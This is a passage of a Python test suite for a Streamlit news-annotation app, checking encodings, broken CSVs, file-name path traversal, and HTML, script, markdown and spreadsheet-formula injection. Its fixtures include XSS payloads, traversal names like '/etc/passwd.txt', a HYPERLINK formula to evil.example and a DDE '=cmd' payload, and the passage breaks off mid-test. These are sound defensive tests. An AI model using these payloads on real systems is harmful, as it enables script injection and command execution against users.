"""Bad and hostile input, in the real app (``AppTest``) and at the unit level.

Nothing crashes (``app.exception`` stays empty and the page says what is wrong), nothing is lost or
overwritten, and nothing that comes from an article, a file name or a CSV cell becomes markup.
The same inputs drive the real browser in ``test_browser_hostile.py``.
"""

from __future__ import annotations

import codecs
import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from components.annotations.csv_codec import decode_table, encode_table
from components.annotations.exports import to_csv_bytes
from components.annotations.schema import COLUMNS, KIND_QUOTE, QUOTE_LABEL
from components.annotations.store import AnnotationStore, check_article_id
from components.annotations.table import merge_corrections
from components.annotations.xlsx_export import to_xlsx_bytes
from components.corpus.articles import ArticleError, ArticleLibrary, article_id_from_name
from components.corpus.text_decoding import MAX_UPLOAD_BYTES, decode_article, decode_upload
from components.ui import state
from tests import test_app
from tests.conftest import BUNDLED_ARTICLE
from tests.test_app import APP, BUNDLED_ID, article_html, shown
from tests.test_app_corrections import model_table, type_new_option
from tests.test_store import ARTICLE as STORE_ARTICLE
from tests.test_store import MALFORMED, snapshot

folders = test_app.folders  # the fixture: an articles folder (bundled, hostile, empty, Latin-1) and the env
BUNDLED_TEXT = BUNDLED_ARTICLE.read_text(encoding="utf-8")
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"
    * 8
)
STAMP = "2026-01-01T00:00:00Z"

# --- inputs shared with the browser tests ------------------------------------------------------------

UNICODE_TEXT = (
    "👩‍👩‍👧 Family news 🇫🇷: Angela Merkel met Emmanuel Macron in Paris on Monday.\n"
    "José Martínez (Jose\u0301 with a combining accent) spoke to Reuters in Madrid.\n"
    "בירושלים אמר ראש העיר \u200f«שלום»\u200f and then Benjamin Netanyahu flew to London 🛫.\n"
    "Z\u0336a\u0336l\u0336g\u0336o and 𝓜𝓪𝓽𝓱 letters; Vladimir Putin answered from Moscow."
)

HOSTILE_TEXT = (
    "Officials in Paris said <script>window.__pwned='text'</script> and "
    "<img src=x onerror=\"window.__pwned='img'\"> then [click me](javascript:window.__pwned='link') "
    "and **bold** and <b>tag</b>.\n"
    "“We will not leave,” said the <i>mayor</i> of Aleppo."
)
# A double quote first: written into an attribute unescaped, it would close it and start an element.
HOSTILE_LABEL = "\"><img src=x onerror=window.__pwned='label'>"
HOSTILE_MD_LABEL = "[x](javascript:window.__pwned='md')"
BOLD_LABEL = "**bold**"
TAG_LABEL = "<b>LABEL</b>"
HOSTILE_SPEAKER = "\"><script>window.__pwned='speaker'</script>[x](javascript:window.__pwned=1) **bold**"
HOSTILE_COUNTRY = "[x](javascript:window.__pwned='country')"
HOSTILE_SPAN_ID = "\"><img src=x onerror=window.__pwned='id'>"

FORMULA_TEXT = (
    'Totals: =HYPERLINK("http://evil.example/?x","click") then +SUM(1;2) then -2+3 then @SUM(A1:A2) then '
    "'=already quoted then ''double. Angela Merkel said “=1+1 is a formula” in Berlin.\n"
    "\tTabbed line =cmd|' /C calc'!A0 ends here."
)


def human_row(
    article_id: str,
    text: str,
    needle: str,
    label: str,
    *,
    kind: str = "entity",
    speaker: str = "",
    country: str = "",
    span_id: str | None = None,
) -> dict[str, object]:
    """Return a valid correction row (``text == article[start:end]``) for the first ``needle``."""
    start = text.index(needle)
    end = start + len(needle)
    return {
        "article_id": article_id,
        "span_id": span_id or f"{'q' if kind == KIND_QUOTE else 'e'}-{start}-{end}",
        "kind": kind,
        "start": start,
        "end": end,
        "text": text[start:end],
        "label": QUOTE_LABEL if kind == KIND_QUOTE else label,
        "speaker": speaker,
        "country": country,
        "source": "human",
        "status": "active",
        "updated_at": STAMP,
    }


def hostile_rows(article_id: str = "hostile") -> pd.DataFrame:
    """Readers' rows whose labels, speaker, country and span id are HTML, scripts and markdown."""
    text = HOSTILE_TEXT
    rows = [
        human_row(article_id, text, "Paris", HOSTILE_LABEL),
        human_row(article_id, text, "[click me](javascript:window.__pwned='link')", HOSTILE_MD_LABEL),
        human_row(article_id, text, "**bold**", BOLD_LABEL, span_id=HOSTILE_SPAN_ID),
        human_row(article_id, text, "<b>tag</b>", TAG_LABEL),
        human_row(article_id, text, "“We will not leave,”", "", kind=KIND_QUOTE, speaker=HOSTILE_SPEAKER),
        human_row(article_id, text, "Aleppo", "GPE", country=HOSTILE_COUNTRY),
    ]
    return pd.DataFrame(rows, columns=list(COLUMNS))


def formula_rows(article_id: str = "formulas") -> pd.DataFrame:
    """Readers' rows whose cells a spreadsheet would run: text, label, speaker and span id."""
    text = FORMULA_TEXT
    rows = [
        human_row(
            article_id,
            text,
            '=HYPERLINK("http://evil.example/?x","click")',
            "=cmd|' /C calc'!A0",
            span_id="=1+1",
        ),
        human_row(article_id, text, "+SUM(1;2)", "+1", span_id="+x"),
        human_row(article_id, text, "-2+3", "-1", span_id="-x"),
        human_row(article_id, text, "@SUM(A1:A2)", "@LABEL", span_id="@x"),
        human_row(article_id, text, "'=already quoted", "'=quoted"),
        human_row(article_id, text, "''double", "''"),
        human_row(article_id, text, "“=1+1 is a formula”", "", kind=KIND_QUOTE, speaker="=Merkel()"),
        human_row(article_id, text, "\tTabbed", "\tTAB"),
        human_row(article_id, text, "Berlin", "\r=CR", country="@X"),
    ]
    return pd.DataFrame(rows, columns=list(COLUMNS))


def write_corrections(annotations: Path, article_id: str, rows: pd.DataFrame) -> Path:
    """Write a correction file as another tool (or an earlier session) would: the app's own encoder."""
    annotations.mkdir(parents=True, exist_ok=True)
    path = annotations / f"{article_id}.csv"
    path.write_bytes(encode_table(rows))
    return path


# --- reading the page --------------------------------------------------------------------------------


class _ArticleMarkup(HTMLParser):
    """Walks the reading view's HTML: its tags and attributes, and where each span's text sits."""

    BADGES = ("ent-label", "quote-speaker")

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []  # (tag, name, value), values unescaped
        self.elements: list[tuple[str, dict[str, str]]] = []  # every element's tag and attributes
        self.open: list[dict[str, str]] = []
        self.position = 0
        self.paragraphs: list[tuple[int, str]] = []
        self.spans: dict[str, list[tuple[int, str]]] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.tags.add(tag)
        self.attributes += [(tag, name, value) for name, value in values.items()]
        self.elements.append((tag, values))
        self.open.append(values)
        if tag == "p":
            self.position = int(values["data-start"])
            self.paragraphs.append((self.position, ""))

    def handle_endtag(self, tag: str) -> None:
        self.open.pop()

    def handle_data(self, data: str) -> None:
        if any(badge in element.get("class", "").split() for element in self.open for badge in self.BADGES):
            return  # the label or speaker badge: not article text
        if self.paragraphs:
            start, text = self.paragraphs[-1]
            self.paragraphs[-1] = (start, text + data)
        for element in self.open:
            if "data-span-id" in element:
                self.spans.setdefault(element["data-span-id"], []).append((self.position, data))
        self.position += len(data)


def parse_article(markup: str) -> _ArticleMarkup:
    parser = _ArticleMarkup()
    parser.feed(markup)
    parser.close()
    return parser


def page_span_offsets(markup: str, text: str) -> dict[str, tuple[int, int]]:
    """Return (start, end) of every span in the reading view, measured from where its text sits.

    Asserts on the way that every paragraph is the article text at its ``data-start`` and that each
    span's text is ``article[start:end]`` (paragraph breaks aside).
    """
    parsed = parse_article(markup)
    for start, shown_text in parsed.paragraphs:
        assert text[start : start + len(shown_text)] == shown_text, (start, shown_text[:80])
    offsets = {}
    for span_id, pieces in parsed.spans.items():
        start = pieces[0][0]
        end = pieces[-1][0] + len(pieces[-1][1])
        assert "".join(piece for _, piece in pieces) == text[start:end].replace("\n", ""), span_id
        offsets[span_id] = (start, end)
    return offsets


def assert_inert(markup: str) -> None:
    """The reading view holds only our own elements and attributes, whatever the text and labels say."""
    parsed = parse_article(markup)
    assert parsed.tags <= {"div", "p", "mark", "span"}, parsed.tags
    names = {name for _, name, _ in parsed.attributes}
    assert names <= {"class", "data-start", "data-span-id", "data-label", "title", "data-speaker", "style"}, (
        names
    )
    for _tag, name, value in parsed.attributes:
        if name == "style":
            assert re.fullmatch(r"--ent-colour: #[0-9a-f]{6}", value), value
        if name == "class":
            assert re.fullmatch(r"[a-z -]+", value), value


def messages(app: AppTest) -> str:
    """Every message in the page (errors, warnings, successes, infos) as the reader reads it."""
    return "\n".join(shown(element) for element in [*app.error, *app.warning, *app.success, *app.info])


def open_page(article: str | None = None) -> AppTest:
    """Run the real app on the Correct tab (the Overview's charts are drawn in the browser tests)."""
    app = AppTest.from_file(APP, default_timeout=120)
    app.session_state[state.SIDE_TABS] = state.CORRECT_TAB
    if article is not None:
        app.query_params[state.ARTICLE_PARAM] = article
    app.run()
    assert not app.exception, app.exception
    return app


def upload(app: AppTest, name: str, data: bytes) -> AppTest:
    """Upload a file through the "Open an article" dialog, as a reader does."""
    app.button(key=state.OPEN_ARTICLE).click().run()
    app.file_uploader(key=state.UPLOADER).upload(name, data, "text/plain")
    app.run()
    assert not app.exception, app.exception
    return app


def files_under(folder: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


# --- articles: decoding, at the unit level -----------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "text", "encoding", "guessed"),
    [
        ("Café in Zürich".encode("latin-1"), "Café in Zürich", "Windows-1252", True),
        (
            "“Ça va”, said the mayor — naïve résumé.".encode("cp1252"),
            "“Ça va”, said the mayor — naïve résumé.",
            "Windows-1252",
            True,
        ),
        (
            codecs.BOM_UTF16_LE + "Angela Merkel in Köln.".encode("utf-16-le"),
            "Angela Merkel in Köln.",
            "UTF-16",
            False,
        ),
        (
            codecs.BOM_UTF16_BE + "Angela Merkel in Köln.".encode("utf-16-be"),
            "Angela Merkel in Köln.",
            "UTF-16",
            False,
        ),
        (
            "Angela Merkel in Köln.".encode("utf-16-le"),
            "Angela Merkel in Köln.",
            "UTF-16 LE (no byte-order mark)",
            True,
        ),
        (
            "Angela Merkel in Köln.".encode("utf-16-be"),
            "Angela Merkel in Köln.",
            "UTF-16 BE (no byte-order mark)",
            True,
        ),
        (
            "Мэр Москвы заявил, что решение".encode("utf-16-le"),
            "Мэр Москвы заявил, что решение",
            "UTF-16 LE",
            True,
        ),
        ("Angela Merkel in Köln.".encode("utf-32"), "Angela Merkel in Köln.", "UTF-32", False),
        (codecs.BOM_UTF8 + "Angela\r\nMerkel\rin Köln.".encode(), "Angela\nMerkel\nin Köln.", "UTF-8", False),
        (
            "Мэр Москвы заявил, что решение было преждевременным. Это было сказано в понедельник.".encode(
                "cp1251"
            ),
            "Мэр Москвы заявил, что решение было преждевременным. Это было сказано в понедельник.",
            "cp1251",
            True,
        ),
    ],
)
def test_uploads_in_other_encodings_are_read_and_say_which(
    data: bytes, text: str, encoding: str, guessed: bool
) -> None:
    decoded = decode_upload(data, "upload.txt")
    assert decoded.text == text
    assert encoding in decoded.encoding and decoded.guessed is guessed


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (PNG, "looks like a binary file"),
        (bytes(range(1, 256)) * 40, "binary"),
        ("Мэр Москвы".encode("cp1251"), "encoding could not be told"),  # too short to tell from its letters
        (b"x" * (MAX_UPLOAD_BYTES + 1), "articles up to 5 MB"),
    ],
)
def test_uploads_that_cannot_be_told_are_refused_with_a_reason(data: bytes, message: str) -> None:
    with pytest.raises(ArticleError, match=message):
        decode_upload(data, "upload.txt")


@pytest.mark.parametrize(
    ("data", "hint"),
    [
        ("Café".encode("latin-1"), "it looks like Windows-1252"),
        ("Angela Merkel in Köln.".encode("utf-16-le"), "it looks like UTF-16 LE"),
    ],
)
def test_a_folder_file_in_another_encoding_is_refused_with_the_encoding_it_looks_like(
    data: bytes, hint: str
) -> None:
    # A folder file is read strictly (its offsets must never depend on a guess); the message says
    # what it seems to be, and that an upload would be converted.
    with pytest.raises(ArticleError, match=f"not UTF-8.*{hint}.*upload"):
        decode_article(data, "story.txt")


@pytest.mark.parametrize(
    "name",
    [
        "../../outside.txt",
        "..\\..\\windows.txt",
        "/etc/passwd.txt",
        "my story (final).txt",
        "Gdańsk мэр 🙂.txt",
        "Ж" * 300 + ".txt",
        "東京" * 100 + ".txt",
        "a" * 300 + ".txt",
        "<img src=x onerror=alert(1)>.txt",
        "..txt",
        "\x00.txt",
        "CON.txt",
    ],
)
def test_every_file_name_gives_an_id_the_store_accepts(name: str) -> None:
    article_id = article_id_from_name(name)
    assert check_article_id(article_id) == article_id  # raises for anything unsafe or over 200 bytes
    assert "/" not in article_id and "\\" not in article_id and not article_id.startswith(".")
    # Room for the "-<hash>" a clash adds, and the store's ".<id>.csv.<random>.tmp" within 255 bytes.
    assert len(f"{article_id}-abcdef".encode()) <= 200


def test_an_upload_that_cannot_be_stored_is_a_clear_error(tmp_path: Path) -> None:
    blocked = tmp_path / "annotations"
    blocked.write_text("a file where the folder should be")
    library = ArticleLibrary(tmp_path / "articles", blocked / "uploads")
    with pytest.raises(ArticleError, match=r"could not be stored.*Nothing was saved"):
        library.add_upload("story.txt", b"Angela Merkel visited Paris.")
    assert blocked.read_text() == "a file where the folder should be"


# --- articles: uploads through the page ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("empty.txt", b"", "The article is empty"),
        ("blank.txt", b" \r\n\t \n", "The article is empty"),
        ("picture.txt", PNG, "looks like a binary file"),
        ("big.txt", b"word " * (6 * 1024 * 1024 // 5), "is 6.0 MB; articles up to 5 MB"),
        # Over the server's own limit (server.maxUploadSize = 10): the browser refuses it before it is
        # sent (test_browser_hostile.py); should it arrive, our check refuses it too.
        ("huge.txt", b"word " * (11 * 1024 * 1024 // 5), "is 11.0 MB; articles up to 5 MB"),
        ("noise.txt", "Мэр Москвы".encode("cp1251"), "encoding could not be told"),
    ],
)
def test_an_upload_that_is_not_an_article_is_refused_in_the_page(
    folders: dict[str, Path], name: str, data: bytes, message: str
) -> None:
    app = open_page()
    upload(app, name, data)
    assert any(message in shown(error) for error in app.error), messages(app)
    assert app.query_params[state.ARTICLE_PARAM] == BUNDLED_ID  # still on the article that was open
    assert "Zakaria Malahifji" in article_html(app)
    assert not (folders["annotations"] / "uploads").exists() or not any(
        (folders["annotations"] / "uploads").iterdir()
    )


@pytest.mark.parametrize(
    ("name", "data", "text", "told"),
    [
        (
            "zurich-latin1.txt",
            "Angela Merkel flew to Zürich. Café, naïve.".encode("latin-1"),
            "Angela Merkel flew to Zürich. Café, naïve.",
            "it was read as Windows-1252 / Latin-1",
        ),
        (
            "quotes-cp1252.txt",
            "“Ça va”, said Angela Merkel — in Besançon.".encode("cp1252"),
            "“Ça va”, said Angela Merkel — in Besançon.",
            "it was read as Windows-1252",
        ),
        (
            "utf16-bom.txt",
            codecs.BOM_UTF16_LE + "Angela Merkel visited Köln.".encode("utf-16-le"),
            "Angela Merkel visited Köln.",
            "It was read as UTF-16 (byte-order mark)",
        ),
        (
            "utf16-le.txt",
            "Angela Merkel visited Köln.".encode("utf-16-le"),
            "Angela Merkel visited Köln.",
            "it was read as UTF-16 LE (no byte-order mark)",
        ),
        (
            "utf16-be.txt",
            "Angela Merkel visited Köln.".encode("utf-16-be"),
            "Angela Merkel visited Köln.",
            "it was read as UTF-16 BE (no byte-order mark)",
        ),
    ],
)
def test_an_upload_in_another_encoding_opens_and_the_reader_is_told_which(
    folders: dict[str, Path], name: str, data: bytes, text: str, told: str
) -> None:
    app = open_page()
    upload(app, name, data)
    assert told in messages(app)
    article_id = app.query_params[state.ARTICLE_PARAM]
    assert article_id == name.removesuffix(".txt")
    # Stored as UTF-8, so its address and its offsets never depend on the guess again.
    assert (folders["annotations"] / "uploads" / name).read_bytes() == text.encode("utf-8")
    offsets = page_span_offsets(article_html(app), text)
    assert offsets and parse_article(article_html(app)).paragraphs == [(0, text)]
    assert any(text[start:end] == "Angela Merkel" for start, end in offsets.values())


def test_an_upload_with_a_bom_and_windows_line_endings_keeps_offsets_on_the_text(
    folders: dict[str, Path],
) -> None:
    data = codecs.BOM_UTF8 + b"Angela Merkel visited Paris.\r\n\r\nEmmanuel Macron met her in Berlin.\r\n"
    text = "Angela Merkel visited Paris.\n\nEmmanuel Macron met her in Berlin.\n"
    app = open_page()
    upload(app, "bom-crlf.txt", data)
    assert messages(app) == "Opened bom-crlf.txt as “bom-crlf”."  # UTF-8: no encoding to tell
    assert (folders["annotations"] / "uploads" / "bom-crlf.txt").read_text(encoding="utf-8") == text
    offsets = page_span_offsets(article_html(app), text)
    assert offsets["e-0-13"] == (0, 13)  # the mark is not a character of the text
    berlin = text.index("Berlin")
    assert offsets[f"e-{berlin}-{berlin + 6}"] == (berlin, berlin + 6)


def test_emoji_combining_marks_and_right_to_left_text_keep_offsets_in_the_page_and_the_csv(
    folders: dict[str, Path],
) -> None:
    (folders["articles"] / "unicode.txt").write_text(UNICODE_TEXT, encoding="utf-8")
    app = open_page("unicode")
    offsets = page_span_offsets(article_html(app), UNICODE_TEXT)
    found = {UNICODE_TEXT[start:end] for start, end in offsets.values()}
    # Spans after emoji (several code points each), combining marks and Hebrew are all in place.
    assert {"Angela Merkel", "Madrid", "Benjamin Netanyahu", "Vladimir Putin"} <= found, found

    # A reader's span over the emoji, the combining accent and the Hebrew, saved through the page.
    for needle in ("👩‍👩‍👧 Family", "Jose\u0301", "ראש העיר"):
        start = UNICODE_TEXT.index(needle)
        app.session_state[state.TEXT_SELECTION] = (start, start + len(needle))
        app.run()
        app.selectbox(key=state.NEW_LABEL).set_value("ORG")
        app.button(key="add_span").click().run()
        assert not app.exception and "Saved" in messages(app), messages(app)
        assert offsets_of(app, needle) == (start, start + len(needle))

    table = page_table(folders["annotations"], "unicode", UNICODE_TEXT)
    download = decode_table(to_csv_bytes(table))  # what "Download CSV" gives
    assert len(download) == len(table) >= 7
    for row in download.itertuples():
        assert UNICODE_TEXT[row.start : row.end] == row.text, row
    saved = decode_table((folders["annotations"] / "unicode.csv").read_bytes())
    assert sorted(saved["text"]) == sorted(["👩‍👩‍👧 Family", "Jose\u0301", "ראש העיר"])


def offsets_of(app: AppTest, needle: str) -> tuple[int, int]:
    offsets = page_span_offsets(article_html(app), UNICODE_TEXT)
    return next(span for span in offsets.values() if UNICODE_TEXT[span[0] : span[1]] == needle)


def page_table(annotations: Path, article_id: str, text: str) -> pd.DataFrame:
    """The table the page shows and downloads: the model's rows with the saved corrections on top."""
    return merge_corrections(
        model_table(text, article_id), AnnotationStore(annotations).load(article_id, text).rows
    )


def long_single_line(length: int = 200_000) -> str:
    """A 200,000-character article with no line break: one paragraph, so one part of the reading view."""
    filler = (
        "the quiet river ran past the old mill and nobody said a word about it while the rain kept falling "
    )
    sentence = filler * 9 + "Angela Merkel came by from Paris. "
    text = (sentence * (length // len(sentence) + 1))[:length]
    assert "\n" not in text and len(text) == length
    return text


def test_a_very_long_single_line_is_one_part_and_renders(folders: dict[str, Path]) -> None:
    text = long_single_line()
    (folders["articles"] / "one-line.txt").write_text(text, encoding="utf-8")
    app = open_page("one-line")
    markup = article_html(app)
    parsed = parse_article(markup)
    assert parsed.paragraphs == [(0, text)]  # one paragraph, all of it, as one part
    assert not [box for box in app.selectbox if box.label == "Part"]
    assert len(page_span_offsets(markup, text)) > 100
    # The page still works: a correction on it is saved.
    span_id = next(iter(parsed.spans))
    app.selectbox(key=state.SELECTED_SPAN).set_value(span_id).run()
    app.button(key="reject_span").click().run()
    assert not app.exception and "Saved" in messages(app), messages(app)
    assert span_id not in parse_article(article_html(app)).spans


@pytest.mark.parametrize(
    ("name", "article_id"),
    [
        ("../../outside.txt", "outside"),
        ("my story (final).txt", "my-story-final"),
        ("Gdańsk мэр 🙂.txt", "Gdańsk-мэр"),
        ("Ж" * 300 + ".txt", "Ж" * 75),
        (
            "**bold** [x](javascript:alert(1)) <img src=x onerror=alert(1)>.txt",
            "bold-x-javascript-alert-1-img-src-x-onerror-alert-1",
        ),
    ],
)
def test_an_upload_name_never_leaves_its_folder_and_its_article_can_be_corrected(
    folders: dict[str, Path], tmp_path: Path, name: str, article_id: str
) -> None:
    before = files_under(tmp_path)
    app = open_page()
    upload(app, name, b"Angela Merkel visited Paris on Monday.")
    assert app.query_params[state.ARTICLE_PARAM] == article_id
    success = app.success[0]
    assert shown(success) == f"Opened {name} as “{article_id}”."  # the name as it was, escaped for markdown
    assert "**" not in success.value and "](" not in success.value
    after = files_under(tmp_path)
    assert set(after) - set(before) == {f"annotations/uploads/{article_id}.txt"}
    assert {k: v for k, v in after.items() if k in before} == before  # nothing else touched
    # Its corrections have a file of their own (a long non-Latin name once made the page crash here).
    app.selectbox(key=state.SELECTED_SPAN).set_value("e-0-13").run()
    app.button(key="reject_span").click().run()
    assert not app.exception and "Saved" in messages(app), messages(app)
    assert (folders["annotations"] / f"{article_id}.csv").is_file()


def test_an_upload_named_like_another_article_never_takes_its_annotations(
    folders: dict[str, Path], tmp_path: Path
) -> None:
    bundled_csv = write_corrections(
        folders["annotations"],
        BUNDLED_ID,
        pd.DataFrame([human_row(BUNDLED_ID, BUNDLED_TEXT, "Aleppo", "GPE")]),
    )
    before = files_under(tmp_path)
    app = open_page()
    upload(app, "../" + BUNDLED_ARTICLE.name, b"Angela Merkel visited Paris on Monday.")
    opened = app.query_params[state.ARTICLE_PARAM]
    assert opened.startswith(BUNDLED_ID + "-") and opened != BUNDLED_ID
    assert "Angela Merkel" in article_html(app) and "Aleppo" not in article_html(app)
    app.selectbox(key=state.SELECTED_SPAN).set_value("e-0-13").run()
    app.button(key="reject_span").click().run()
    assert "Saved" in messages(app)
    after = files_under(tmp_path)
    for path, data in before.items():  # the bundled article, its corrections: byte for byte
        assert after[path] == data, path
    assert bundled_csv.read_bytes() == before[f"annotations/{BUNDLED_ID}.csv"]
    # The same text again opens the same article; a different text a different one again.
    upload(app, "../" + BUNDLED_ARTICLE.name, b"Angela Merkel visited Paris on Monday.")
    assert app.query_params[state.ARTICLE_PARAM] == opened


@pytest.mark.parametrize(
    ("file_name", "data", "message"),
    [
        ("png.txt", PNG, "looks like a binary file"),
        ("utf16.txt", "Angela Merkel in Köln.".encode("utf-16-le"), "it looks like UTF-16 LE"),
        ("big.txt", b"word " * (6 * 1024 * 1024 // 5), "articles up to 5 MB"),
    ],
)
def test_a_bad_file_in_the_articles_folder_gets_a_message_not_a_traceback(
    folders: dict[str, Path], file_name: str, data: bytes, message: str
) -> None:
    (folders["articles"] / file_name).write_bytes(data)
    app = open_page(file_name.removesuffix(".txt"))
    assert any(message in shown(error) for error in app.error), messages(app)
    assert not app.get("bidi_component")


# --- HTML, scripts and markdown in the text, labels, speakers and file names ---------------------------


def test_hostile_labels_speakers_and_ids_from_a_csv_are_inert_in_the_page(folders: dict[str, Path]) -> None:
    (folders["articles"] / "hostile.txt").write_text(HOSTILE_TEXT, encoding="utf-8")
    write_corrections(folders["annotations"], "hostile", hostile_rows())
    app = open_page("hostile")
    markup = article_html(app)
    assert_inert(markup)
    parsed = parse_article(markup)
    attributes = {(name, value) for _, name, value in parsed.attributes}
    for label in (HOSTILE_LABEL, HOSTILE_MD_LABEL, BOLD_LABEL, TAG_LABEL):
        assert ("data-label", label) in attributes, label
    assert ("data-speaker", HOSTILE_SPEAKER) in attributes
    assert ("title", f"Quote by {HOSTILE_SPEAKER}") in attributes
    assert ("data-span-id", HOSTILE_SPAN_ID) in attributes
    assert "".join(text for _, text in parsed.paragraphs) == HOSTILE_TEXT.replace("\n", "")
    # The span picker and the table are drawn from the same rows without complaint.
    assert any(BOLD_LABEL in option for option in app.selectbox(key=state.SELECTED_SPAN).options)
    app.selectbox(key=state.SELECTED_SPAN).set_value(HOSTILE_SPAN_ID).run()
    assert not app.exception and app.selectbox(key=state.LABEL_CHOICE).value == BOLD_LABEL
    # Markdown in a label never becomes markup in the page's own text (checkbox, captions, messages).
    for element in [*app.markdown, *app.caption, *app.checkbox]:
        value = getattr(element, "label", None) or getattr(element, "value", "")
        assert "**bold**" not in str(value), value


def test_a_label_and_a_speaker_typed_by_the_reader_are_saved_as_typed_and_shown_as_text(
    folders: dict[str, Path],
) -> None:
    (folders["articles"] / "hostile.txt").write_text(HOSTILE_TEXT, encoding="utf-8")
    write_corrections(folders["annotations"], "hostile", hostile_rows())
    app = open_page("hostile")
    paris = "e-13-18"
    assert HOSTILE_TEXT[13:18] == "Paris"
    app.selectbox(key=state.SELECTED_SPAN).set_value(paris).run()
    type_new_option(app.selectbox(key=state.LABEL_CHOICE), TAG_LABEL + HOSTILE_MD_LABEL)
    app.button(key="save_label").click().run()
    assert not app.exception
    assert f"Saved: “Paris” → {TAG_LABEL}{HOSTILE_MD_LABEL}" in messages(app)
    assert all("](" not in element.value for element in app.success)  # escaped, never a link
    quote = hostile_rows().iloc[4]["span_id"]
    app.selectbox(key=state.SELECTED_SPAN).set_value(quote).run()
    type_new_option(app.selectbox(key=state.SPEAKER_CHOICE), "**Lavrov** <script>window.__pwned=2</script>")
    app.button(key="save_speaker").click().run()
    assert not app.exception and "Saved" in messages(app)
    saved = decode_table((folders["annotations"] / "hostile.csv").read_bytes()).set_index("span_id")
    assert saved.loc[paris, "label"] == TAG_LABEL + HOSTILE_MD_LABEL
    assert saved.loc[quote, "speaker"] == "**Lavrov** <script>window.__pwned=2</script>"
    markup = article_html(app)
    assert_inert(markup)
    assert ("data-label", TAG_LABEL + HOSTILE_MD_LABEL) in {
        (n, v) for _, n, v in parse_article(markup).attributes
    }


# --- annotation files that cannot be used: reported in the page, never touched ---------------------------

PAGE_CASES = {
    "missing columns": "missing columns",
    "extra columns": "foreign file",
    "wrong types": "start not an integer",
    "offsets past the end": "offsets past the end",
    "offsets not matching the text": "text does not match",
    "duplicate span ids": "duplicate span_id",
    "empty label on an active entity": "empty label on active entity",
    "unknown kind, source, status": "unknown kind, source, status",
    "truncated last line": "truncated inside a cell",
    "truncated after a cell": "truncated after a cell",
    "not UTF-8": "not UTF-8",
}


@pytest.fixture(scope="module")
def broken_file_page(tmp_path_factory: pytest.TempPathFactory):
    """One page on the store tests' article (``aleppo``), reloaded for each broken file."""
    root = tmp_path_factory.mktemp("broken")
    articles, annotations = root / "articles", root / "annotations"
    articles.mkdir()
    annotations.mkdir()
    (articles / f"{STORE_ARTICLE}.txt").write_text(BUNDLED_TEXT, encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ARTICLES_DIR", str(articles))
        patch.setenv("ANNOTATIONS_DIR", str(annotations))
        patch.delenv("SPACY_MODEL", raising=False)
        app = open_page(STORE_ARTICLE)
        # An entity of the model's, to pick in the editor whatever the model finds.
        entity = next(
            values["data-span-id"]
            for tag, values in parse_article(article_html(app)).elements
            if tag == "mark"
        )
        yield app, annotations, entity


@pytest.mark.parametrize("case", list(PAGE_CASES))
def test_a_broken_annotation_file_is_reported_in_the_page_and_left_as_it_was(
    broken_file_page, case: str
) -> None:
    app, annotations, entity = broken_file_page
    make, problems = MALFORMED[PAGE_CASES[case]]
    path = annotations / f"{STORE_ARTICLE}.csv"
    path.write_bytes(make(BUNDLED_TEXT))
    before = snapshot(annotations)
    app.session_state[state.SELECTED_SPAN] = entity
    app.run()
    assert not app.exception, app.exception
    report = messages(app)
    assert f"The annotation file {path} cannot be used" in report and "left unchanged" in report, report
    for problem in problems:
        assert problem in report, (problem, report)
    assert "Zakaria Malahifji" in article_html(app)  # still readable, with the model's spans
    # Corrections are off: a reader cannot write over the file from the page.
    for key in ("save_label", "reject_span"):
        assert app.button(key=key).disabled, key
    assert not [button for button in app.button if button.key == state.UNDO_BUTTON]
    app.run()
    assert snapshot(annotations) == before  # byte for byte, and no log or temp file appeared
    path.unlink()


def test_a_file_broken_while_the_page_is_open_refuses_the_save_and_stays_as_it_was(broken_file_page) -> None:
    app, annotations, entity = broken_file_page
    path = annotations / f"{STORE_ARTICLE}.csv"
    assert not path.exists()
    app.session_state[state.SELECTED_SPAN] = entity
    app.run()
    assert not app.button(key="reject_span").disabled
    make, problems = MALFORMED["truncated inside a cell"]
    path.write_bytes(make(BUNDLED_TEXT))  # another tool writes a torn file after the page loaded
    before = snapshot(annotations)
    app.button(key="reject_span").click().run()
    assert not app.exception, app.exception
    assert "cannot be used" in messages(app) and problems[0] in messages(app), messages(app)
    assert snapshot(annotations) == before
    path.unlink()


# --- spreadsheet safety -------------------------------------------------------------------------------------


def raw_cells(data: bytes) -> list[list[str]]:
    """The cells of CSV bytes exactly as any CSV reader receives them."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_spreadsheet_safe(xlsx: bytes) -> list[list[str]]:
    """Assert that no cell of the workbook is a formula; return the cells' text, sheet by sheet, row by row."""
    workbook = load_workbook(io.BytesIO(xlsx))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
            texts.append(["" if cell.value is None else str(cell.value) for cell in row])
    return texts


def test_formula_cells_stay_as_written_in_the_csv_and_are_text_in_the_xlsx(
    folders: dict[str, Path],
) -> None:
    (folders["articles"] / "formulas.txt").write_text(FORMULA_TEXT, encoding="utf-8")
    rows = formula_rows()
    write_corrections(folders["annotations"], "formulas", rows)
    app = open_page("formulas")
    assert not app.error, messages(app)
    markup = article_html(app)
    assert_inert(markup)
    assert ("data-label", "=cmd|' /C calc'!A0") in {(n, v) for _, n, v in parse_article(markup).attributes}

    table = page_table(folders["annotations"], "formulas", FORMULA_TEXT)
    download = to_csv_bytes(table)
    cells = {cell for line in raw_cells(download) for cell in line}
    written = {"=1+1", "+x", "-x", "@x", "=cmd|' /C calc'!A0", "'=quoted", "\tTAB", "\r=CR", "@X", "''"}
